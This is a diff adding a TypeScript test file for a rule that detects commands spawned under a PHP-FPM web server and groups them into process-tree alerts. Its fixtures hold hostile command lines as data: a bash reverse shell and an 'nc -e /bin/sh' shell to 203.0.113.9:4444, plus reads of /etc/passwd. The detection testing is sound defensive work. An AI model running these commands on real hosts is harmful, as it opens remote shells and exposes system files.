@@ -1,0 +1,216 @@
+import { expect, it } from 'vitest';
+import { ALERT_FIELD } from '../../common/alert/alert_document';
+import type { SourceEvent } from '../../common/event/source_event';
+import { extendedRule } from '../../common/rule/extended_rule';
+import { toShippedParams, type RuleParams } from '../../common/rule/rule_params';
+import { createEqlEventReader } from '../../test/doubles/eql_event_reader';
+import { createMemoryAdapters } from '../../test/doubles/memory_adapters';
+import { createRuleRun } from '../../test/doubles/rule_run';
+import { createExecutor } from './executor';
+import type { RuleState } from './rule_state';
+
+const NOON = Date.UTC(2026, 10, 24, 12);
+const FPM = {
+  entity_id: 'worker',
+  executable: '/usr/sbin/php-fpm8.2',
+  name: 'php-fpm8.2',
+  args: ['php-fpm: pool www'],
+};
+
+interface Start {
+  readonly id: string;
+  readonly second: number;
+  readonly args: readonly string[];
+  readonly entityId?: string;
+  readonly parent?: object;
+  readonly ancestry?: readonly string[];
+}
+const toEvent = ({
+  id,
+  second,
+  args,
+  entityId = id,
+  parent = FPM,
+  ancestry = ['worker'],
+}: Start): SourceEvent => ({
+  id,
+  index: 'logs-endpoint.events.process-default',
+  source: {
+    '@timestamp': new Date(NOON + second * 1000).toISOString(),
+    event: { category: ['process'], type: ['start'], action: 'exec', sequence: second },
+    host: { id: 'h', name: 'web-01', os: { type: 'linux' } },
+    user: { name: 'www-data' },
+    process: {
+      entity_id: entityId,
+      name: args[0],
+      executable: `/usr/bin/${args[0]}`,
+      args,
+      parent,
+      Ext: { ancestry },
+    },
+  },
+});
+const below = (entityId: string, name: string): object => ({
+  entity_id: entityId,
+  name,
+  executable: `/usr/bin/${name}`,
+  args: [name],
+});
+const attack = (id: string, second: number): SourceEvent =>
+  toEvent({ id, second, args: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] });
+const work = (id: string, second: number): SourceEvent =>
+  toEvent({
+    id,
+    second,
+    args: ['convert', '/var/www/a.png', '-resize', '100x100', '/var/www/b.png'],
+  });
+
+/** A host with the extended rule; events can be added between runs. */
+const createHost = (
+  events: SourceEvent[],
+  { mostAlerts = 1000, ...params }: Partial<RuleParams> & { mostAlerts?: number } = {}
+) => {
+  const memory = createMemoryAdapters([], mostAlerts);
+  const { reader } = createEqlEventReader(events);
+  const execute = createExecutor({ ...memory.adapters, createEventReader: () => reader }, 'en');
+  let state: RuleState = {};
+  return {
+    async runAt(second: number) {
+      const { run, outcome } = createRuleRun({
+        startedAt: new Date(NOON + second * 1000).toISOString(),
+        updatedAt: new Date(NOON - 3_600_000),
+        state,
+        params: { ...toShippedParams(extendedRule), ...params },
+      });
+      ({ state } = await execute(run));
+      const raised = [...memory.reported];
+      memory.storeReported();
+      return { raised: raised.map(({ payload }) => payload), outcome: outcome.join(' ') };
+    },
+  };
+};
+
+it('raises one alert for an attack, with its grade, its reasons and all its events, and none for work', async () => {
+  const shell = attack('sh', 0);
+  const bash = toEvent({
+    id: 'b',
+    second: 1,
+    args: ['bash', '-i'],
+    parent: below('sh', 'sh'),
+    ancestry: ['sh', 'worker'],
+  });
+  const { raised, outcome } = await createHost([shell, bash, work('w', 2)]).runAt(60);
+  expect(raised).toHaveLength(1);
+  expect(raised[0]).toMatchObject({
+    [ALERT_FIELD.ancestorId]: 'sh',
+    [ALERT_FIELD.treeEvents]: ['sh', 'b'],
+    [ALERT_FIELD.treeSequences]: [0, 1],
+    [ALERT_FIELD.severity]: expect.stringMatching(/^(high|critical)$/),
+    [ALERT_FIELD.signs]: expect.arrayContaining([
+      expect.objectContaining({ id: 'reverse_shell', eventId: 'sh' }),
+    ]),
+  });
+  expect(raised[0]?.[ALERT_FIELD.riskScore]).toBeGreaterThanOrEqual(73);
+  expect(raised[0]?.[ALERT_FIELD.reason]).toContain('203.0.113.9');
+  expect(outcome).toContain('1 command run through web servers was seen');
+});
+
+it('raises a tree once, however often and by whichever of its programs it is found', async () => {
+  const again = toEvent({
+    id: 'x',
+    second: 130,
+    entityId: 'sh',
+    args: ['python3', '-c', 'import socket'],
+  });
+  const events = [attack('sh', 100)];
+  const host = createHost(events);
+  expect((await host.runAt(120)).raised).toHaveLength(1);
+  events.push(again);
+  expect((await host.runAt(180)).raised).toEqual([]);
+  expect((await host.runAt(240)).raised).toEqual([]);
+});
+
+it('sees that a quiet tree grew into an attack', async () => {
+  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '/var/www/jobs/run.sh'] })];
+  const host = createHost(events);
+  expect((await host.runAt(60)).raised).toEqual([]);
+  events.push(
+    toEvent({
+      id: 'nc',
+      second: 70,
+      args: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
+      parent: below('sh', 'sh'),
+      ancestry: ['sh', 'worker'],
+    })
+  );
+  const { raised } = await host.runAt(120);
+  expect(raised.map((alert) => alert[ALERT_FIELD.ancestorId])).toEqual(['sh']);
+});
+
+it('takes what a script of a server’s child starts for part of its tree, though it looks like a server’s child', async () => {
+  const script = {
+    entity_id: 'py',
+    name: 'python3',
+    executable: '/usr/bin/python3',
+    args: ['python3', '/var/www/app/manage.py', 'runserver'],
+  };
+  const events = [
+    attack('sh', 0),
+    toEvent({
+      id: 'py',
+      second: 1,
+      args: ['python3', '/var/www/app/manage.py', 'runserver'],
+      parent: below('sh', 'sh'),
+      ancestry: ['sh', 'worker'],
+    }),
+    toEvent({
+      id: 'id',
+      second: 2,
+      args: ['sh', '-c', 'id; uname -a; cat /etc/passwd'],
+      parent: script,
+      ancestry: ['py', 'sh', 'worker'],
+    }),
+  ];
+  const { raised } = await createHost(events).runAt(60);
+  expect(raised.map((alert) => alert[ALERT_FIELD.treeEvents])).toEqual([['sh', 'py', 'id']]);
+});
+
+it('raises the gravest first where alerting takes no more, and the rest in the next run', async () => {
+  const probe = toEvent({ id: 'probe', second: 5, args: ['sh', '-c', 'cat /etc/passwd'] });
+  const host = createHost([attack('a', 0), probe, attack('b', 3)], { mostAlerts: 2 });
+  const first = await host.runAt(60);
+  expect(first.raised.map((alert) => alert[ALERT_FIELD.ancestorId]).sort()).toEqual(['a', 'b']);
+  expect(first.outcome).toContain('1 more alert is carried over');
+  // Long after its look-back: only what is carried over still knows of it.
+  const second = await host.runAt(3600);
+  expect(second.raised.map((alert) => alert[ALERT_FIELD.ancestorId])).toEqual(['probe']);
+});
+
+it('goes by the rule’s own least risk', async () => {
+  const events = [toEvent({ id: 'a', second: 0, args: ['sh', '-c', 'cat /etc/passwd'] })];
+  expect((await createHost(events).runAt(60)).raised).toHaveLength(1);
+  expect((await createHost(events, { minimumRisk: 99 }).runAt(60)).raised).toEqual([]);
+});
+
+it('lets several questions by hand through one server raise each other, across its workers', async () => {
+  const ask = (id: string, second: number, command: string, worker: string) =>
+    toEvent({
+      id,
+      second,
+      args: ['sh', '-c', command],
+      parent: { ...FPM, entity_id: worker },
+      ancestry: [worker],
+    });
+  const alone = await createHost([ask('a', 0, 'whoami', 'w1')], { minimumRisk: 1 }).runAt(60);
+  const together = await createHost(
+    [
+      ask('a', 0, 'whoami', 'w1'),
+      ask('b', 9, 'uname -a', 'w2'),
+      ask('c', 20, 'ls -la /home', 'w3'),
+    ],
+    { minimumRisk: 1 }
+  ).runAt(60);
+  const riskOf = ({ raised }: typeof alone): unknown =>
+    raised.find((alert) => alert[ALERT_FIELD.ancestorId] === 'a')?.[ALERT_FIELD.riskScore];
+  expect(riskOf(together)).toBeGreaterThan(Number(riskOf(alone)));
+});
